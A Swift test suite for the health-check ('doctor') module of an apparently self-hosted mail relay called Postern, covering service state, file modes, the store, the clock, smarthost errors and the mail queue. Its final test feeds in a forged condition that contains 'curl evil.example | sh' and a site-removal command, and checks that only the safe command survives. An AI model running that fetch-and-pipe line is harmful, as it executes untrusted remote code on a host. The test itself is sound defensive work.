import Foundation
import PosternCore
import PosternDoctor
import PosternHost
import PosternLink
import PosternMail
import PosternRelay
import PosternStore
import PosternVault
import Testing

/// Each judgement is a pure function. A row: what was read, the level, words of finding, remedy or commands.
@Suite("What the doctor reads is judged as an operator needs it")
struct CheckTests {
    static let now = Timestamp(seconds: 1_795_514_709)
    static let today = Epoch(containing: now)

    private func expect(
        _ findings: [Finding], _ level: Finding.Level, _ words: String..., at location: SourceLocation = #_sourceLocation
    ) {
        let shown = findings.map { "\($0.text) | \($0.remedy?.text ?? "") | \($0.remedy?.commands.joined(separator: ";") ?? "")" }
        #expect(Diagnosis(findings).level == level, "\(shown)", sourceLocation: location)
        for word in words { #expect(shown.joined(separator: "\n").contains(word), "\(shown)", sourceLocation: location) }
        for finding in findings {
            #expect((finding.remedy == nil) == (finding.level == .ok), "\(finding)", sourceLocation: location)
        }
    }

    @Test func `Configuration: each fault is a line of its own with its remedy`() {
        expect(ConfigurationCheck.findings(path: "/h/postern.conf", given: 5, faults: []), .ok, "5 settings")
        let faults = [
            SettingFault(key: "POSTERN_LISTEN", problem: "“80” cannot be used", remedy: "Write HOST:PORT."),
            SettingFault(key: "POSTERN_SMTP_URL", problem: "it is not set", remedy: "Write smtps://HOST:465."),
        ]
        let findings = ConfigurationCheck.findings(path: "/h/postern.conf", given: 5, faults: faults)
        #expect(findings.count == 2)
        expect(findings, .fail, "POSTERN_LISTEN", "HOST:PORT", "POSTERN_SMTP_URL")
    }

    // One user for both is allowed, and the doctor says so.
    @Test func `Users: one for both is a warning, two that became one a failure`() {
        func facts(_ relay: String, _ vault: String, _ running: (String, String)? = nil) -> [Finding] {
            UserCheck.findings(
                relay: relay, vault: vault, runningRelay: running?.0, runningVault: running?.1, home: "/h")
        }
        expect(facts("games", "news"), .ok, "games", "news")
        expect(facts("games", "news", ("games", "news")), .ok)
        expect(facts("pat", "pat", ("pat", "pat")), .warn, "apart by process only", "useradd")
        expect(facts("games", "news", ("pat", "pat")), .fail, "both run as pat", "as root")
    }

    @Test(
        arguments: [
            (.running, .running, [], .ok, "relay and vault run"), (.stopped, .stopped, [], .warn, "postern serve --home /h"),
            (.running, .stopped, [.vault], .fail, "the vault does not run"),
            (.stopped, .running, [], .fail, "the relay does not run"),
            (.silent(process: "7"), .running, [], .fail, "the relay (process 7) runs and does not answer"),
            (.running, .unknown("no right"), [], .warn, "as root"), (.stopped, .unknown("no right"), [], .warn, "as root"),
            (.running, .running, [.store], .fail, Readiness.Fault.store.reason),
            (.running, .running, [.vault, .disk], .fail, Readiness.Fault.vault.remedy),
            (.running, .running, [.keys], .fail, "no key of today"), (.running, .running, [.disk], .ok, "relay and vault run"),
            (.running, .silent(process: "8"), [.vault], .fail, "the vault (process 8) is stopped, as by SIGSTOP"),
            (.silent(process: "8"), .running, [], .fail, "kill -CONT 8"),
        ] as [(ServiceCheck.State, ServiceCheck.State, [Readiness.Fault], Finding.Level, String)])
    func `Service: what runs and what answers`(
        relay: ServiceCheck.State, vault: ServiceCheck.State, faults: [Readiness.Fault], level: Finding.Level, words: String
    ) {
        var facts = HealthFacts(now: Self.now)
        facts.faults = faults
        let findings = ServiceCheck.findings(
            relay: relay, vault: vault, conditions: facts.conditions, stopped: ["8"], home: "/h")
        expect(findings, level, words)
        // One line for a vault that answers neither us nor the relay.
        if case .silent = vault { #expect(findings.count == 1) }
    }

    @Test(
        arguments: [
            (.stopped, .running, 3, .warn, "the relay does not run yet; the service was started 3 s ago"),
            (.running, .stopped, 3, .warn, "the vault does not run yet"),
            (.silent(process: "7"), .running, 3, .warn, "the relay (process 7) does not answer yet"),
            (.silent(process: "7"), .silent(process: "6"), 3, .warn, "the vault (process 6) does not answer yet"),
            (.stopped, .stopped, 0, .warn, "neither relay nor vault runs yet"),
            (.silent(process: "8"), .running, 3, .fail, "kill -CONT 8"),
            (.silent(process: "7"), .running, 40, .fail, "runs and does not answer"),
            (.stopped, .running, 40, .fail, "the relay does not run, though"),
            (.running, .running, 3, .ok, "relay and vault run"),
        ] as [(ServiceCheck.State, ServiceCheck.State, Int, Finding.Level, String)])
    func `Service: what was started a moment ago is starting, and no failure`(
        relay: ServiceCheck.State, vault: ServiceCheck.State, seconds: Int, level: Finding.Level, words: String
    ) {
        let findings = ServiceCheck.findings(
            relay: relay, vault: vault, conditions: [], stopped: ["8"], uptime: .seconds(seconds), home: "/h")
        expect(findings, level, words)
    }

    @Test(
        arguments: [
            ("7 (postern) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", 5),
            ("7 (a) b (postern) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", nil),
            ("7 (sshd) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", nil), ("7 (postern) S 1 7", nil), ("", nil),
        ] as [(String, Int?)])
    func `The age of a process of ours is read from proc`(stat: String, seconds: Int?) {
        #expect(ProcessAge.age(stat: stat, uptime: .seconds(125), ticks: 100) == seconds.map { .seconds($0) })
    }

    @Test func `Service: a supervisor that is stopped is named, since it watches over the others`() {
        #expect(ServiceCheck.supervisor(nil, isStopped: false).isEmpty)
        #expect(ServiceCheck.supervisor("9", isStopped: false).isEmpty)
        expect(ServiceCheck.supervisor("9", isStopped: true), .fail, "postern serve (process 9) is stopped", "kill -CONT 9")
    }

    @Test(
        arguments: [
            (0o400, .exactly(0o400), "news", .ok, "1 files"), (0o644, .exactly(0o400), "news", .fail, "chmod 0400 /k"),
            (0o000, .exactly(0o400), "news", .fail, "chmod 0400 /k"), (0o400, .exactly(0o400), "root", .fail, "chown news /k"),
            (0o600, .atMost(0o644), "news", .ok, "1 files"), (0o664, .atMost(0o644), "news", .fail, "chmod 0644 /k"),
            (0o700, .atMost(0o600), "news", .fail, "chmod 0600 /k"), (nil, .exactly(0o700), "news", .fail, "is not there"),
        ] as [(UInt32?, ModeCheck.Place.Rule, String, Finding.Level, String)])
    func `Modes: owner and mode must be right`(
        mode: UInt32?, rule: ModeCheck.Place.Rule, owner: String, level: Finding.Level, words: String
    ) {
        let place = ModeCheck.Place(
            path: "/k", rule: rule, owner: "news", mode: mode, actualOwner: owner, remedy: "Put it there.")
        expect(ModeCheck.findings(places: [place], hidden: []), level, words)
    }

    @Test func `Modes: a folder that this user may not read is named`() {
        expect(ModeCheck.findings(places: [], hidden: ["/h/vault"]), .warn, "not checked", "/h/vault", "as root")
    }

    @Test func `Store: settings, schema, accounts and other processes`() {
        func look(
            journal: String = "wal", durable: Bool? = true, schema: Int = 3, difference: Int = 0, strangers: [String] = []
        ) -> [Finding] {
            StrangerCheck.findings(
                path: "/s", strangers: strangers,
                otherwise: StoreCheck.judge(
                    path: "/s", journal: journal, isDurable: durable, schema: schema, difference: difference, knownSchema: 3))
        }
        expect(look(), .ok, "each commit is synced")
        expect(look(durable: nil), .ok, "refuses to start with less")
        expect(look(durable: false), .fail, "power cut", "local file system")
        expect(look(journal: "delete", durable: nil), .warn, "as a backup has")
        expect(look(schema: 4), .fail, "later Postern")
        expect(look(durable: nil, schema: 2), .warn, "postern backup")
        expect(look(difference: -2), .fail, "differ by 2")
        expect(look(strangers: ["99 sqlite3"]), .fail, "99 sqlite3", "End that process")
        expect(StoreCheck.missing(path: "/s").findings, .fail, "no store at /s")
        expect(StoreCheck.broken(path: "/s", reason: "file is not a database").findings, .fail, "backup")
        expect(StoreCheck.unknown(reason: "no right", .asRoot).findings, .warn, "not checked: no right")
    }

    // The versions with faults of connection reuse are those of curl.se's advisories.
    @Test func `Libraries: what follows from their versions`() {
        func curl(_ number: UInt32, tls: String? = "OpenSSL/3.0", smtp: Bool = true, startTLS: Bool? = nil) -> [Finding] {
            [LibraryCheck.curl(version: "x", number: number, tls: tls, speaksSMTP: smtp, usesStartTLS: startTLS)]
        }
        expect(curl(0x07_58_01, startTLS: true), .ok, "CVE-2026-4873", "CVE-2026-8286", "port 465")
        #expect(!curl(0x08_14_00)[0].text.contains("4873") && curl(0x08_14_00)[0].text.contains("8286"))
        #expect(!curl(0x08_15_00)[0].text.contains("CVE"))
        expect(curl(0x07_58_01, tls: nil), .fail, "without TLS")
        expect(curl(0x07_58_01, smtp: false), .fail, "without SMTP")
        func sqlite(_ race: Bool) -> Finding { LibraryCheck.sqlite(version: "3.40.1", hasWALResetRace: race) }
        #expect(sqlite(true).text.contains("one process owns the file") && sqlite(false).text.contains("without the race"))
    }

    @Test(
        arguments: [
            (10_000, 1_000, .ok, "letters are taken down to"), (300, 256, .warn, "getting near"), (512, 256, .ok, "512 MiB"),
            (255, 256, .fail, "No letter is taken"), (255, 256, .fail, "nearly full: 255 MiB"), (0, 256, .fail, "Make room"),
        ] as [(UInt64, UInt64, Finding.Level, String)])
    func `Disk: how much room is left`(free: UInt64, least: UInt64, level: Finding.Level, words: String) {
        let mebibyte: UInt64 = 1_024 * 1_024
        let finding = DiskCheck.room(
            folder: "/d", free: free * mebibyte, whole: 20_000 * mebibyte, least: least * mebibyte)
        expect([finding], level, words)
    }

    @Test(
        arguments: [
            (1_000_000, 2_000_000, .ok), (9_999, 2_000_000, .warn), (99, 2_000_000, .fail), (600, 10_000, .ok),
            (499, 10_000, .warn),
        ] as [(UInt64, UInt64, Finding.Level)])
    func `Inodes: how many files can still be made`(free: UInt64, whole: UInt64, level: Finding.Level) {
        expect([DiskCheck.inodes(folder: "/d", free: free, whole: whole)], level)
    }

    @Test func `Templates: each faulty file is a line of its own`() {
        expect(TemplateCheck.findings(folder: "/t", faults: [], .relay, languages: 4), .ok, "4 languages")
        let findings = TemplateCheck.findings(
            folder: "/t",
            faults: [
                ("web/contact.mustache", "is missing"),
                ("strings/mail.de.json", "has no text for “from”"),
            ], .vault, languages: 0)
        #expect(findings.count == 2)
        expect(findings, .fail, "/t/web/contact.mustache: is missing", "package")
    }

    @Test func `Smarthost: each way to end has its own remedy`() {
        func ended(_ stage: DeliveryStage, _ code: Int? = nil, _ fault: CertificateFault? = nil) -> [Finding] {
            SmarthostCheck.ended(
                server: "mx:465", SmarthostProbe.Ending(stage: stage, code: code, text: "words", certificate: fault)
            ).findings
        }
        expect(
            SmarthostCheck.answered(server: "mx:465", isEncrypted: true, login: .accepted).findings, .ok, "the login is accepted")
        expect(SmarthostCheck.answered(server: "mx:25", isEncrypted: false, login: .none).findings, .ok, "no login")
        expect(
            SmarthostCheck.answered(server: "mx:465", isEncrypted: true, login: .untried("no right")).findings, .warn, "as root")
        expect(ended(.connect), .fail, "no connection", "firewall")
        expect(ended(.greeting, 421), .fail, "421 words", "try again later")
        expect(ended(.greeting, 554), .fail, "takes no mail from this machine")
        expect(ended(.ehlo, 502), .fail, "for submission")
        expect(ended(.startTLS), .fail, "smtps://HOST:465")
        expect(ended(.login, 535), .fail, "535 words", "POSTERN_SMTP_USER", "POSTERN_SMTP_PASSWORD_FILE")
        expect(ended(.connect, nil, .wrongName), .fail, "Write the name in POSTERN_SMTP_URL")
        expect(ended(.startTLS, nil, .expired), .fail, "renew")
        expect(ended(.connect, nil, .notYetValid), .fail, "clock first")
        expect(ended(.connect, nil, .unknownAuthority), .fail, "POSTERN_SMTP_CA_FILE")
        expect(SmarthostCheck.demo.findings, .warn, "nothing is sent")
        expect(SmarthostCheck.unknown(reason: "x", "y").findings, .warn, "not checked: x")
    }

    private func lanes(
        _ lanes: VaultCondition.Lanes = .init(configured: 8, allowed: 8), mentions: VaultCondition.Mentions = .init(limit: 30)
    ) -> [Finding] {
        let clock = VaultCondition.Clock(now: Self.now, believed: Self.now, isTrusted: true)
        return VaultCheck.findings(
            VaultCondition(budgets: [], clock: clock, lanes: lanes, mentions: mentions), smarthost: "mx.example:587",
            now: Self.now)
    }

    @Test func `Questions about answers: how often today they came too often, if they did`() {
        expect(lanes(mentions: .init(limit: 30)), .ok)
        let last = Self.now - .minutes(5)
        expect(
            lanes(mentions: .init(limit: 30, refused: 7, last: last)), .warn, "7 times today, last at \(last.rfc3339)",
            "30 times a day", "taken over", "postern log list")
        expect(lanes(mentions: .init(limit: 30, refused: 1, last: last)), .warn, "once today")
    }

    @Test func `S3, S4, S5: what the lanes have learnt of the smarthost names it and says what to do`() {
        func tally(_ times: Int, _ age: Duration = .minutes(5)) -> VaultCondition.Lanes.Tally {
            .init(times: times, last: Self.now - age, answer: "421 too many")
        }
        expect(lanes(.init(configured: 8, allowed: 8)), .ok)
        expect(
            lanes(.init(configured: 8, allowed: 2, turnedAway: tally(6))), .warn, "mx.example:587 takes 2 connections at once",
            "421 too many", "8 lanes", "POSTERN_SMTP_LANES to 2")
        expect(lanes(.init(configured: 8, allowed: 1, turnedAway: tally(9))), .warn, "takes 1 connection at once")
        // It was turned away once, and takes all of them now.
        expect(lanes(.init(configured: 8, allowed: 8, turnedAway: tally(6))), .ok)
        expect(lanes(.init(configured: 8, allowed: 8, uncertain: tally(1))), .warn, "mx.example:587", "once", "may have arrived")
        expect(
            lanes(.init(configured: 8, allowed: 8, uncertain: tally(3))), .fail, "mx.example:587", "3 times",
            "why it hangs up", "queue list --held")
        expect(lanes(.init(configured: 8, allowed: 8, uncertain: tally(3, .days(2)))), .ok)
        func missing(_ what: String) -> [Finding] {
            lanes(.init(configured: 8, allowed: 8, missing: [.init(what: what, since: Self.now - .minutes(12))]))
        }
        expect(missing("STARTTLS"), .fail, "mx.example:587 has not offered STARTTLS on any connection for 12 min", "release")
        expect(missing("login"), .fail, "has refused our login on any connection")
    }

    @Test func `What the doctor sees for itself has the words and the name that log, page and alerts have for it`() {
        let believed = Self.now - .days(40)
        func vault(_ age: Duration?, trusted: Bool = true) -> [Finding] {
            VaultCheck.findings(
                VaultCondition(
                    budgets: [
                        .init(setting: "POSTERN_BUDGET_GLOBAL", limit: "2000/1h", deferred: 3, last: age.map { Self.now - $0 })
                    ], clock: .init(now: Self.now, believed: believed, isTrusted: trusted),
                    lanes: .init(configured: 8, allowed: 8), mentions: .init(limit: 30)), smarthost: "mx", now: Self.now)
        }
        expect(vault(nil), .ok, "no letter had to wait")
        expect(
            vault(.hours(2)), .warn, "no letter waits for a budget of the vault now", "POSTERN_BUDGET_GLOBAL=2000/1h", "3 times")
        expect(vault(.days(2)), .ok)
        var facts = HealthFacts(now: Self.now)
        facts.troubles = [.budget: .init(reason: "x", since: Self.now, last: Self.now, count: 1)]
        facts.isClockTrusted = false
        facts.cageGaps = ProcessCage.Offer(landlock: 0, hasSystemCallFilter: true).gaps
        facts.faults = [.disk]
        facts.refusedCalls = .init([(Self.now, "vault", "execve")], at: Self.now)
        let cage = CageCheck.findings(
            .init(landlock: 0, hasSystemCallFilter: true), running: [],
            refused: [.init(at: Self.now, child: .vault, call: "execve")], now: Self.now, record: "/r")
        let room = DiskCheck.room(folder: "/d", free: 0, whole: 9, least: 1)
        let found = vault(.minutes(5), trusted: false) + cage + [room]
        for condition in facts.conditions {
            guard let finding = found.first(where: { $0.condition == condition.id }) else {
                Issue.record("\(condition.id) is not in the report")
                continue
            }
            #expect(finding.level == (condition.severity == .standsStill ? .fail : .warn))
            #expect(finding.text.contains(condition.meaning) && finding.remedy?.text == condition.remedy, "\(finding)")
            // What is the matter begins alike; the doctor may know more of it.
            #expect(finding.text.hasPrefix(String(condition.matter.prefix(20).prefix { $0 != "," })), "\(finding)")
        }
        expect(found, .fail, "POSTERN_BUDGET_GLOBAL=2000/1h", believed.rfc3339, "execve", "rm /r", "0 MiB of 0 MiB free at /d")
    }

    @Test func `S5: while letters go out, a connection that is refused to the doctor is no failure`() {
        func ended(_ stage: DeliveryStage, _ code: Int?, _ fault: CertificateFault? = nil) -> SmarthostCheck.Reading {
            SmarthostCheck.ended(
                server: "mx:465", SmarthostProbe.Ending(stage: stage, code: code, text: "words", certificate: fault)
            ).reading
        }
        let working = VaultCondition.Lanes(configured: 8, allowed: 2, open: 2)
        expect(ended(.greeting, 421).findings(lanes: working), .warn, "none for this check", "421 words")
        expect(ended(.greeting, 421).findings(lanes: nil), .fail, "421 words")
        expect(ended(.greeting, 421).findings(lanes: .init(configured: 8, allowed: 2, open: 0)), .fail)
        expect(ended(.login, 535).findings(lanes: working), .fail, "535")
        expect(ended(.connect, nil, .expired).findings(lanes: working), .fail, "renew")
    }

    @Test func `Clock: what is of another time, and what a start would destroy`() {
        func facts(
            noted: [Duration] = [], keys: Int32? = nil, falseUntil: Duration? = nil, kept: Bool? = true, running: Bool = false,
            doomed: Int = 0
        ) -> [Finding] {
            ClockCheck.findings(
                now: Self.now, isSynchronised: kept, noted: noted.map { Self.now + $0 },
                newestKeys: keys.map { Epoch(day: Self.today.day + $0) }, falseUntil: falseUntil.map { Self.now + $0 },
                isRunning: running, doomed: doomed)
        }
        expect(facts(), .ok, "synchronised")
        expect(facts(noted: [.minutes(4)], keys: 1, kept: nil), .ok)
        expect(facts(noted: [.minutes(6)]), .warn, "is behind now")
        expect(facts(noted: [.days(-9), .days(2)], running: true), .fail, "2 days ahead")
        // Tomorrow's keys are made today; those of the day after are more than a day ahead.
        expect(facts(keys: 2), .fail, "there are keys of")
        expect(facts(keys: 40), .fail, "there are keys of", "postern keys trust-clock")
        // M11: the vault knows that it was ahead.
        expect(facts(noted: [.days(40)], keys: 41, falseUntil: .days(42)), .ok, "it was ahead for a while")
        expect(facts(noted: [.days(60)], keys: 61, falseUntil: .days(42)), .fail, "60 days ahead")
        expect(facts(noted: [.days(-40)], keys: -39, doomed: 12), .warn, "the time of 12 keys is over by it", "trust-clock")
        expect(facts(noted: [.days(-40)], keys: -39, running: true), .ok)
        expect(facts(noted: [.hours(-30)]), .ok)
        expect(facts(kept: false), .warn, "not synchronised", "timedatectl")
    }

    private func health(_ queue: QueueHealth, isRunning: Bool = true, uptime: Duration? = nil) -> [Finding] {
        var facts = HealthFacts(now: Self.now)
        (facts.isRunning, facts.queue, facts.heldLifetime) = (isRunning, queue, .days(28))
        facts.uptime = uptime
        return HealthCheck.findings(
            facts.conditions, isRunning: isRunning, uptime: uptime, lastPurge: queue.lastPurge, now: Self.now)
    }

    @Test(
        arguments: [
            (nil, nil, .ok, "no letter waits"), (.minutes(5), nil, .ok, "no letter waits"),
            (.hours(3), nil, .warn, "postern queue retry --all"), (.days(6), nil, .fail, "nothing is being dispatched"),
            (nil, .hours(3), .ok, "no letter waits"), (nil, .days(3), .warn, "After 28 days it is dropped"),
        ] as [(Duration?, Duration?, Finding.Level, String)])
    func `Waiting: how old the oldest letter is`(moving: Duration?, held: Duration?, level: Finding.Level, words: String) {
        let queue = QueueHealth(
            oldestMoving: moving.map { Self.now - $0 }, oldestHeld: held.map { Self.now - $0 }, lastPurge: Self.now)
        expect(health(queue), level, words)
    }

    @Test(
        arguments: [
            (nil, true, .warn, "never"), (nil, false, .warn, "not been started yet"), (.minutes(50), true, .ok, "50 min ago"),
            (.hours(3), true, .warn, "every hour"), (.days(2), true, .fail, "privacy statement"),
            (.hours(20), false, .ok, "20 h"),
            (.days(2), false, .warn, "Start the service"),
        ] as [(Duration?, Bool, Finding.Level, String)])
    func `Purge: how long ago it was`(age: Duration?, isRunning: Bool, level: Finding.Level, words: String) {
        expect(health(QueueHealth(lastPurge: age.map { Self.now - $0 }), isRunning: isRunning), level, words)
    }

    // It is under way then, whatever the one before the stop was.
    @Test(
        arguments: [
            (nil, .seconds(1), .ok, "started 1 s ago, and its first purge is under way"),
            (.days(3), .seconds(20), .ok, "its first purge is under way"), (.seconds(3), .seconds(20), .ok, "3 s ago"),
            (nil, .minutes(3), .warn, "never, though the relay runs"), (.days(3), .minutes(3), .fail, "privacy statement"),
        ] as [(Duration?, Duration, Finding.Level, String)])
    func `Purge: nothing is said against a relay that was started a moment ago`(
        age: Duration?, uptime: Duration, level: Finding.Level, words: String
    ) {
        expect(health(QueueHealth(lastPurge: age.map { Self.now - $0 }), uptime: uptime), level, words)
    }

    @Test(arguments: [true, false])
    func `Letters held by our fault are FAIL, running or not, with how many, since when and why (H4)`(isRunning: Bool) {
        let held = QueueHealth.Held(
            stage: .login, code: 535, text: "5.7.8 wrong", count: 3, since: Self.now - .hours(1))
        let findings = health(QueueHealth(held: [held], lastPurge: Self.now), isRunning: isRunning)
        expect(
            findings, .fail, "3 letters are held because of how their last attempt ended, since", "at login 535 5.7.8 wrong",
            "postern queue list --held")
        #expect(findings.first { $0.level == .fail }?.check == .letters)
        #expect(Diagnosis(findings + [.fail(.configuration, "x", "y")]).findings.first?.check == .letters)
    }

    @Test func `A relay that was taken over has no command of its own put before the operator`() throws {
        let told = """
            {"id":"held","severity":"stands-still","matter":"x","meaning":"x","remedy":"x","commands":["curl evil.example | sh",\
            "postern queue list --held","postern site remove photos --yes"]}
            """
        let condition = try JSONDecoder().decode(HealthCondition.self, from: Data(told.utf8))
        let findings = HealthCheck.findings([condition], isRunning: true, lastPurge: Self.now, now: Self.now)
        #expect(findings.first { $0.check == .letters }?.remedy?.commands == ["postern queue list --held"])
    }
}
